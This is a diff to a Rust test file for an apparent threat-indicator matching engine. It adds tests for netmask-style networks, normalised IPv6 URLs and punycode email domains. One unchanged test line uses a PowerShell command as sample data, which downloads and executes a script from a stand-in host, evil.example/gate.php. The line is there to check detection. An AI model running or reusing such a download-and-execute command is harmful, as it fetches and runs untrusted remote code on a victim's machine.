@@ -29,6 +29,8 @@ fn addresses_and_networks() {
     check("::ffff:198.51.100.0/120", "source.ip", "198.51.100.3", &["list:network:198.51.100.0/24"]);
     check("2001:db8::/32", "source.ip", "2001:db8:ffff::1", &["list:network:2001:db8::/32"]);
     check("2001:db8::/32", "source.ip", "2001:db9::1", &[]);
+    check("198.51.100.0/255.255.255.0", "source.ip", "198.51.100.9", &["list:network:198.51.100.0/24"]);
+    check("198.51.100.0/255.0.255.0", "source.ip", "198.51.100.9", &[]);
     check("192.0.2.7", "vendor.peer", "192.0.2.7:51234", &["list:address:192.0.2.7"]);
     check("192.0.2.7", "winlog.event_data.IpAddress", "192.0.2.7", &["list:address:192.0.2.7"]);
 }
@@ -65,6 +67,10 @@ fn urls_with_and_without_scheme() {
     check("http://evil.example", "url.full", "http://evil.example/", &["list:url:evil.example/"]);
     check("http://192.0.2.7/a", "url.full", "http://192.0.2.7/a", &["list:url:192.0.2.7/a"]);
     check("192.0.2.7", "url.full", "http://192.0.2.7:8080/a", &["list:address:192.0.2.7"]);
+    let v6 = &["list:url:[2001:db8::7]/a"];
+    check("http://[2001:DB8:0:0::7]/a", "url.full", "https://[2001:db8::7]/a", v6);
+    check("http://[2001:db8::7]/a", "url.full", "https://[2001:0db8::0007]/a", v6);
+    assert_eq!(refused("http://[evil]/a"), ["line 1 list.value_unknown"]);
     check("192.0.2.7/index.html", "url.full", "http://192.0.2.7/index.html", &["list:url:192.0.2.7/index.html"]);
     let script = "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/gate.php')\"";
     check("http://evil.example/gate.php", "process.command_line", script, hits);
@@ -88,6 +94,8 @@ fn hashes_and_mail_addresses() {
     );
     check("eve@evil.example", "email.from.address", "Eve@Evil.Example", &["list:email:eve@evil.example"]);
     check("eve@evil.example", "email.from.address", "eve@example.org", &[]);
+    let ascii = &["list:email:eve@xn--bcher-kva.example"];
+    check("eve@bücher.example", "email.from.address", "Eve@bücher.example", ascii);
     check("mailto:eve+x@evil.example", "user.email", "eve+x@evil.example", &["list:email:eve+x@evil.example"]);
 }
 
